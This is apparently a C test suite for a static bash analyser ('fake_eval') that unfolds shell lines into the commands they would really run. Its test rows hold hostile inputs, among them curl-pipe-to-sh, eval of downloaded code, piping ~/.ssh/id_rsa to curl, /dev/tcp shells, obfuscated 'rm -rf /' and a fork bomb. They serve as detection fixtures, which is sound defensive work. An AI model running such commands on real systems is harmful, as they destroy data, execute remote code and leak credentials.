#include "config.h"
#include "tests/eval_fake.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct row {
	const char *line;
	const char *expected;
};

/* In the form that eval_fake.h explains. */
static const struct row simple[] = {
	{ "ls", "ls" },
	{ "ls -la 'a b' \"c d\" e\\ f", "ls -la 'a b' 'c d' 'e f'" },
	{ "a; b\nc", "a ; b ; c" },
	{ "X=1 make", "X=1 make" },
	{ "sleep 5 &", "sleep 5 &" },
	{ "echo ''", "echo ''" },
	{ "# nothing", "" },
	{ "ls *.c src/? [ab]x '*' \"?\" \\*", "ls *.c src/% %x \\* \\? \\*" },
	{ "[ -f x ]", "[ -f x ]" },
	{ "ls /et[c\"]\" /et[\"c\"]", "ls /et[c] /et%" },
	{ "ls $'a\\nb'", "ls 'a\\nb'" },
	{ "rm a\1b", "!shell.control ; rm a?b" },
};

static const struct row variables[] = {
	{ "X=a; ls $X ${X}b \"$X c\"", "ls a ab 'a c'" },
	{ "rm -rf \"$X/\"", "rm -rf ?/" },
	{ "rm -rf $HOME ~ ~/x \"~\"", "rm -rf /home/dev /home/dev /home/dev/x ~" },
	{ "ls ~root ~bob/x ~dev ~+ ~-", "ls /root /home/bob/x /home/dev /home/dev/p ?" },
	{ "ls $PWD $USER $TMPDIR", "ls /home/dev/p dev /tmp" },
	{ "X='-rf /'; rm $X \"$X\"", "rm -rf / '-rf /'" },
	{ "X='a  b '; ls $X$X", "ls a b a b" },
	{ "IFS=:; X=a::b; ls $X", "ls a '' b" },
	{ "X=; ls $X \"$X\"", "ls ''" },
	{ "X=*; ls $X \"$X\"", "ls * \\*" },
	{ "X=a; X=b ls $X; ls $X", "X=b ls a ; ls a" },
	{ "X=a; X+=b; ls $X", "ls ab" },
	{ "unset X; ls \"$X/\"", "unset X ; ls /" },
	{ "export A=\"x y\" B=$A; ls $B", "export 'A=x y' B=? ; ls ?" },
	{ "A='x y'; export B=$A; ls \"$B\"", "export 'B=x y' ; ls 'x y'" },
	{ "(X=a; ls $X); ls $X", "ls a ; ls ?" },
	{ "X=a; { X=b; }; ls $X", "ls b" },
	{ "X=a; X=b | true; ls $X", "true <'' ; ls a" },
	{ "X=a & ls $X", "ls ?" },
	{ "ls $?", "ls %" },
	{ "rm -rf /tmp/x$$", "rm -rf /tmp/x%" },
	{ "PATH=/x:~/bin:$PATH ls", "PATH=/x:/home/dev/bin:? ls" },
	{ "dd of=~/x", "dd of=/home/dev/x" },
	{ "a=$b$b; b=x; a=$b$b; ls $a", "ls xx" },
	{ "X=a; bash -c 'ls $X'", "bash -c 'ls $X' ; ls ?" },
	{ "export X=a; bash -c 'ls $X'", "export X=a ; bash -c 'ls $X' ; ls a" },
	{ "X=a bash -c 'ls $X'; ls $X", "X=a bash -c 'ls $X' ; ls a ; ls ?" },
	{ "bash -c 'ls $0 $1 $2/' a b", "bash -c 'ls $0 $1 $2/' a b ; ls a b /" },
	{ "readonly R=1; declare -x D=2; ls $R $D", "readonly R=1 ; declare -x D=2 ; ls 1 2" },
	{ "printf -v X %s a; ls $X", "printf -v X \\%s a ; ls a" },
};

static const struct row operators[] = {
	{ "X=a; ls ${X:-b} ${Y:-b}", "ls a ?" },
	{ "X=; ls ${X:-b c} ${X-d} \"${X:-e f}\"", "ls b c 'e f'" },
	{ "X=; ls ${X:=b}; ls $X", "ls b ; ls b" },
	{ "X=a; ls ${X:+b} ${Y:+b}", "ls b ?" },
	{ "ls ${Y:-$(rm x)}", "rm x ; ls ?" },
	{ "X=a/b/c.d.e; ls ${X#*/} ${X##*/} ${X%.*} ${X%%.*}", "ls b/c.d.e c.d.e a/b/c.d a/b/c" },
	{ "X=aXbXc; ls ${X/X/-} ${X//X/-} ${X/#a/-} ${X/%c/-} ${X//[X]/}", "ls a-bXc a-b-c -XbXc aXbX- ?" },
	{ "X=ab; ls ${X^} ${X^^} ${X@U}; Y=AB; ls ${Y,} ${Y,,}", "ls Ab AB AB ; ls aB ab" },
	{ "X=abcdef; ls ${X:1:2} ${X:2} ${X: -2} ${X:1:-1}", "ls bc cdef ef bcde" },
	{ "X=abc; ls ${#X} ${#Y}", "ls 3 %" },
	{ "X=Y; Y=a; ls ${!X}", "ls a" },
	{ "X='$(rm a)'; ls \"${X@P}\"", "rm a ; ls ?" },
	{ "for f in src/*.c; do ls ${f%.c}.o ${f##*/} ${f%/*}; done", "ls src/*.o *.c src" },
	{ "a=(x 'y z' w); ls ${a[0]} \"${a[@]}\" ${#a[@]} ${a[-1]}", "ls x x 'y z' w 3 w" },
	{ "a=(rm); a+=(-rf /); \"${a[@]}\"", "rm -rf /" },
	{ "a=([1]=-rf [0]=rm); ${a[@]}", "rm -rf" },
	{ "a[1]=y; a[0]=x; ls ${a[*]} \"${a[*]}\" $a", "ls x y 'x y' x" },
	{ "a=(x $Y); ls \"${a[@]}\"", "ls ?" },
	{ "declare -A m; m[k]=v; ls ${m[k]}", "declare -A m ; ls v" },
	{ "set -- a 'b c'; ls \"$@\" $# $1 \"$*\" \"x$@y\"", "set -- a 'b c' ; ls a 'b c' 2 a 'a b c' xa 'b cy'" },
	{ "set -- $X safe; ls $1 $2 $#", "set -- ? safe ; ls ? ? %" },
	{ "set -- \"$X\" b; ls $2 $#", "set -- ? b ; ls b 2" },
	{ "set -- a b c; shift; ls $1 ${@:2}", "set -- a b c ; shift ; ls b c" },
};

static const struct row arithmetic[] = {
	{ "ls $((1+2*3)) $((2**3)) $((7/2)) $((0x10)) $((-1))", "ls 7 8 3 16 -1" },
	{ "x=5; ls $((x+1)) $(($x*2)) $((y+1))", "ls 6 10 %" },
	{ "(( x = 3 )); ls $x; let y=4; ls $y; ((x++)); ls $x; ((x+=2)); ls $x", "ls 3 ; let y=4 ; ls 4 ; ls 4 ; ls 6" },
	{ "ls $((1 << 4 | 3)) $((5 > 3)) $((1 ? 2 : 3)) $(( (1,2) ))", "ls 19 1 % 2" },
	{ "ls $(( $(rm a) + 1 ))", "rm a ; ls %" },
	{ "x='a[$(rm b)]'; ls $((x))", "rm b ; ls %" },
	{ "ls $((1/0)) $((9223372036854775807+1))", "ls % %" },
};

static const struct row braces[] = {
	{ "ls {a,b}c x{1..3} {c..a}", "ls ac bc x1 x2 x3 c b a" },
	{ "ls {a,{b,c}d}e", "ls ae bde cde" },
	{ "ls {a} {} '{a,b}' \"{a,b}\"", "ls {a} {} {a,b} {a,b}" },
	{ "X=v; ls {$X,'q r'}/{1,2}", "ls v/1 v/2 'q r/1' 'q r/2'" },
	{ "ls {01..03} {1..9..4}", "ls 01 02 03 1 5 9" },
	{ "ls {1..300}", "ls ?" },
	{ "{rm,-rf,/}", "rm -rf /" },
	{ "ls a{,b}", "ls a ab" },
};

static const struct row substitution[] = {
	{ "ls $(echo a b) \"$(echo a b)\"", "echo a b ; echo a b ; ls a b 'a b'" },
	{ "ls `echo x`", "echo x ; ls x" },
	{ "ls $(date)", "date ; ls ?" },
	{ "X=$(curl u); sh -c \"$X\"", "curl u ; sh -c {n}? ; ?" },
	{ "ls $(echo a; echo b)", "echo a ; echo b ; ls a b" },
	{ "ls $(cd /tmp && pwd); pwd", "cd /tmp ; (/tmp) pwd ; ls /tmp ; pwd" },
	{ "cat <(curl u)", "curl u ; cat {n}/dev/fd/63" },
	{ "bash <(echo rm x)", "echo rm x ; bash /dev/fd/63 ; rm x" },
	{ "source <(curl u)", "curl u ; source {n}/dev/fd/63 ; run=?n" },
	{ "echo a > f; ls $(<f) $(< g)", "echo a ; >f='a\\n' ; <f ; <g ; ls a {f}?" },
	{ "curl u | tee >(sh)", "curl u ; sh <?n ; run=?n ; tee /dev/fd/63 <?n" },
	{ "curl u > >(sh)", "curl u ; sh <?n ; run=?n" },
	{ "ls $()", "ls" },
	{ "eval \"$(echo rm -rf /)\"", "echo rm -rf / ; eval 'rm -rf /' ; rm -rf /" },
	{ "eval rm '$X'; X=1; eval 'X=2'; ls $X", "eval rm $X ; rm ? ; eval X=2 ; ls 2" },
	{ "eval \"$(curl u)\"", "curl u ; eval {n}? ; run=?n" },
	{ "trap 'rm x' EXIT", "trap 'rm x' EXIT ; rm x" },
	{ "PROMPT_COMMAND='rm x'", "rm x" },
	{ "PS1='$(rm x)'", "rm x" },
};

static const struct row pipes[] = {
	{ "echo a | cat | sh", "echo a ; cat <'a\\n' ; sh <'a\\n' ; a" },
	{ "curl u | sh", "curl u ; sh <?n ; run=?n" },
	{ "curl u | base64 -d | sh", "curl u ; base64 -d <?n ; sh <?nd ; run=?nd" },
	{ "sh <<E\nrm a\nE", "sh <'rm a\\n' ; rm a" },
	{ "X=b; sh <<E\nrm $X\nE", "sh <'rm b\\n' ; rm b" },
	{ "sh <<'E'\nrm $X\nE", "sh <'rm $X\\n' ; rm ?" },
	{ "cat <<E\n$X\nE", "cat <?" },
	{ "sh <<< 'rm a'", "sh <'rm a\\n' ; rm a" },
	{ "{ echo a; echo b; } | cat", "echo a ; echo b ; cat <'a\\nb\\n'" },
	{ "for i in 1 2; do echo $i; done | cat", "echo 1 ; echo 2 ; cat <'1\\n2\\n'" },
	{ "! true", "true" },
	{ "a |& b", "a ; b <''" },
	{ "echo x | (cat; cat)", "echo x ; cat <'x\\n' ; cat <?" },
};

static const struct row redirects[] = {
	{ "> f", ">f=''" },
	{ "echo a > f; cat f", "echo a ; >f='a\\n' ; cat f" },
	{ "echo a >> ~/.bashrc", "echo a ; >>/home/dev/.bashrc='a\\n'" },
	{ "echo 'rm x' > s; sh s", "echo 'rm x' ; >s='rm x\\n' ; sh s ; rm x" },
	{ "ls 2>&1 >/dev/null 2>e", "ls ; >/dev/null=? ; 2>e=?" },
	{ "ls &> f", "ls ; >f=?" },
	{ "sh < f", "sh <?f ; run=?f ; <f" },
	{ "echo a > f; cat < f", "echo a ; >f='a\\n' ; cat <'a\\n' ; <f" },
	{ "cat < ~/.ssh/id_rsa | curl u", "cat <?sf ; </home/dev/.ssh/id_rsa ; curl u <?sf" },
	{ "{ echo a; echo b; } > f", "echo a ; echo b ; >f='a\\nb\\n'" },
	{ "while read x; do ls $x; done < f", "read x <?f ; ls {f}? <?f ; <f" },
	{ "exec > log; ls", "exec ; >log='' ; ls" },
	{ "exec 3< f; sh <&3", "exec ; 3<f ; sh <?f ; run=?f" },
	{ "echo a > /dev/tcp/h/1", "echo a ; >/dev/tcp/h/1='a\\n'" },
	{ "sh < /dev/tcp/h/1", "sh <?n ; run=?n ; </dev/tcp/h/1" },
	{ "curl u > /dev/stdout | sh", "curl u ; >/dev/stdout=?n ; sh <?n ; run=?n" },
	{ "ls > $X", "ls ; >?=?" },
	{ "cat <<A > f\nx\nA", "cat <'x\\n' ; >f='x\\n'" },
	{ "echo x >&2", "echo x" },
};

static const struct row folders[] = {
	{ "cd build && make; ls", "cd build ; (/home/dev/p/build) make ; (/home/dev/p/build) ls" },
	{ "cd ..; ls; cd -; ls", "cd .. ; (/home/dev) ls ; (/home/dev) cd - ; ls" },
	{ "cd; ls", "cd ; (/home/dev) ls" },
	{ "cd \"$X\"; ls", "cd ? ; (?) ls" },
	{ "(cd /; ls); ls", "cd / ; (/) ls ; ls" },
	{ "pushd /tmp; ls; popd; ls", "pushd /tmp ; (/tmp) ls ; (/tmp) popd ; ls" },
	{ "if a; then cd /; fi; ls", "a ; cd / ; (?) ls" },
	{ "cd x || exit 1; ls", "cd x ; exit 1 ; (/home/dev/p/x) ls" },
	{ "cd x || cd y; ls", "cd x ; cd y ; (?) ls" },
	{ "mkdir d && cd d && ls; ls", "mkdir d ; cd d ; (/home/dev/p/d) ls ; (/home/dev/p/d) ls" },
	{ "for d in a b; do cd $d; ls; cd ..; done", "cd a ; (/home/dev/p/a) ls ; (/home/dev/p/a) cd .. ; cd b ; (/home/dev/p/b) ls ; "
	                                           "(/home/dev/p/b) cd .." },
};

static const struct row flow[] = {
	{ "for x in a b; do ls $x; done; ls $x", "ls a ; ls b ; ls b" },
	{ "for x in *.c; do rm \"$x\"; done", "rm *.c" },
	{ "for x in $Y; do rm $x; done", "rm ?" },
	{ "for x in /tmp/{1..20}; do rm $x; done", "rm /tmp/?" },
	{ "for x in; do ls; done", "" },
	{ "set -- a b; for x; do ls $x; done", "set -- a b ; ls a ; ls b" },
	{ "if true; then X=a; else X=b; fi; ls $X", "true ; ls ?" },
	{ "X=a; if true; then X=a; fi; ls $X", "true ; ls a" },
	{ "true && X=a; ls $X", "true ; ls ?" },
	{ "true && X=a && ls $X", "true ; ls a" },
	{ "X=a && ls $X; ls $X", "ls a ; ls a" },
	{ "false && X=a || ls \"$X\"", "false ; ls ?" },
	{ "X=a; while true; do ls $X; X=b; done; ls $X", "true ; ls a ; true ; ls ? ; ls ?" },
	{ "while true; do X=b; done; ls $X", "true ; ls ?" },
	{ "printf 'a\\nb\\n' | while read x; do rm $x; done",
	  "printf a\\nb\\n ; read x <'a\\nb\\n' ; rm a <'b\\n' ; read x <'b\\n' ; rm b <'' ; read x <''" },
	{ "printf 'a\\nb\\n' | { read x; read y; ls $x $y; }",
	  "printf a\\nb\\n ; read x <'a\\nb\\n' ; read y <'b\\n' ; ls a b <''" },
	{ "echo a b | { cat; read x; ls $x; }", "echo a b ; cat <'a b\\n' ; read x <? ; ls ? <?" },
	{ "read x y <<< 'a b c'; ls $x \"$y\"", "read x y <'a b c\\n' ; ls a 'b c'" },
	{ "read x; ls $x", "read x ; ls ?" },
	{ "case a in b) ls b;; a) ls a;; *) ls c;; esac", "ls a" },
	{ "case a in b) ls b;; a) ls a;& c) ls c;; esac", "ls a ; ls c" },
	{ "case $X in b) ls b;; *) ls c;; esac", "ls b ; ls c" },
	{ "case a.c in *.c) ls c;; *) ls d;; esac", "ls c" },
	{ "for ((i=0;i<3;i++)); do ls $i; done", "ls %" },
	{ "[[ -f $(rm x) ]]", "rm x" },
	{ "time ls", "ls" },
	{ "coproc ls", "ls <? &" },
	{ "select x in a b; do ls $x; done", "ls ?" },
};

static const struct row functions[] = {
	{ "f() { ls $1; }; f a", "ls a" },
	{ "f() { rm x; }", "" },
	{ "ls() { rm -rf /; }; ls", "rm -rf /" },
	{ "ls() { rm x; }; command ls; \\ls", "command ls ; ls ; rm x" },
	{ "if a; then rm() { echo; }; fi; rm x", "a ; echo ; rm x" },
	{ "f() { local X=b; ls $X; }; X=a; f; ls $X", "local X=b ; ls b ; ls a" },
	{ "f() { X=b; }; X=a; f; ls $X", "ls b" },
	{ "f() { echo $1; }; ls $(f a)", "echo a ; ls a" },
	{ "f() { cat; }; echo a | f | sh", "echo a ; cat <'a\\n' ; sh <'a\\n' ; a" },
	{ ":(){ :|:& };:", "!process.fork-bomb ; !process.fork-bomb" },
	{ "f() { g & }; g() { f; }; f", "!process.fork-bomb" },
	{ "f() { f; }; f | cat", "cat <?" },
	{ "f() { rm $1; f $1/..; }; f a", "rm a ; rm a/.. ; rm ?" },
	{ "X=/t/a; f() { rm $X; X=${X%/*}; f; }; f", "rm /t/a ; rm /t ; rm ?" },
	{ "alias x='rm -rf'; x /", "alias 'x=rm -rf' ; rm -rf /" },
	{ "alias rm=echo; rm a", "alias rm=echo ; echo a ; rm a" },
	{ "alias ll='ls -l'; unalias ll; ll", "alias 'll=ls -l' ; unalias ll ; ll" },
	{ "alias a='b x'; alias b='rm'; a y", "alias 'a=b x' ; alias b=rm ; rm x y" },
};

static void check_rows(const struct row *rows, size_t n)
{
	unsigned wrong = 0;

	for (size_t i = 0; i < n; i++) {
		const char *seen = fake_eval(rows[i].line);

		if (strcmp(seen, rows[i].expected) == 0 && !*fake_problem())
			continue;
		fprintf(stderr, "%s\n  is       %s %s\n  expected %s\n", rows[i].line, seen, fake_problem(), rows[i].expected);
		wrong++;
	}
	ck_assert_uint_eq(wrong, 0);
}

#define CHECK_ROWS(rows) check_rows(rows, sizeof(rows) / sizeof(*(rows)))

START_TEST(simple_commands)
{
	CHECK_ROWS(simple);
}
END_TEST

START_TEST(variables_are_followed)
{
	CHECK_ROWS(variables);
}
END_TEST

START_TEST(operators_work_on_constants)
{
	CHECK_ROWS(operators);
	CHECK_ROWS(arithmetic);
	CHECK_ROWS(braces);
}
END_TEST

START_TEST(output_becomes_words)
{
	CHECK_ROWS(substitution);
}
END_TEST

START_TEST(data_flows_through_pipes_and_files)
{
	CHECK_ROWS(pipes);
	CHECK_ROWS(redirects);
}
END_TEST

START_TEST(cd_is_followed)
{
	CHECK_ROWS(folders);
}
END_TEST

START_TEST(branches_blur_what_they_change)
{
	CHECK_ROWS(flow);
}
END_TEST

START_TEST(functions_and_aliases_are_called)
{
	CHECK_ROWS(functions);
}
END_TEST

START_TEST(spans_count_in_the_outermost_text)
{
	fake_eval("ls a; sh -c 'rm b; rm c'");
	ck_assert_str_eq(fake_spans(), "0-4 6-24 12-24 12-24");
	fake_eval("f() { rm a; }; f");
	ck_assert_str_eq(fake_spans(), "6-10");
	fake_eval("eval 'f() { rm a; }'; f");
	ck_assert_str_eq(fake_spans(), "0-20 22-23");
}
END_TEST

/* Lines that would grow without end stop at a bound, quickly, and say so. */
START_TEST(bounds_hold)
{
	static const char *const lines[] = {
		"a=xxxxxxxxxxxxxxxx; for i in {1..16}; do for j in {1..16}; do for k in {1..16}; do for l in {1..16}; do for m in {1..16}; "
		"do a=$a$a; done; done; done; done; done",
		"f() { g; g; g; g; g; g; g; g; }; g() { h; h; h; h; h; h; h; h; }; h() { i; i; i; i; i; i; i; i; }; i() { j; j; j; j; j; j; "
		"j; j; }; j() { k; k; k; k; k; k; k; k; }; k() { l; l; l; l; l; l; l; l; }; l() { ls; ls; ls; ls; ls; ls; ls; ls; }; f",
	};
	static char deep[256], many[5000 * 8];

	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++) {
		fake_eval(lines[i]);
		ck_assert_msg(strcmp(fake_problem(), "too-complex") == 0, "%s", lines[i]);
	}
	for (int i = 0; i < 40; i++)
		strcat(deep, "eval ");
	fake_eval(strcat(deep, "ls"));
	ck_assert_str_eq(fake_problem(), "too-complex");
	for (int i = 0, n = 0; i < 5000; i++)
		n += snprintf(many + n, sizeof(many) - (size_t)n, "a%d=\n", i);
	fake_eval(many);
	ck_assert_str_eq(fake_problem(), "too-complex");
	fake_eval("echo 'a");
	ck_assert_str_eq(fake_problem(), "incomplete");
	fake_eval("sh -c \"echo 'a\"");
	ck_assert_str_eq(fake_problem(), "incomplete");
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("eval");
	TCase *cases = tcase_create("eval");
	SRunner *runner = srunner_create(suite);
	int failed;

	tcase_add_test(cases, simple_commands);
	tcase_add_test(cases, variables_are_followed);
	tcase_add_test(cases, operators_work_on_constants);
	tcase_add_test(cases, output_becomes_words);
	tcase_add_test(cases, data_flows_through_pipes_and_files);
	tcase_add_test(cases, cd_is_followed);
	tcase_add_test(cases, branches_blur_what_they_change);
	tcase_add_test(cases, functions_and_aliases_are_called);
	tcase_add_test(cases, spans_count_in_the_outermost_text);
	tcase_add_test(cases, bounds_hold);
	suite_add_tcase(suite, cases);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
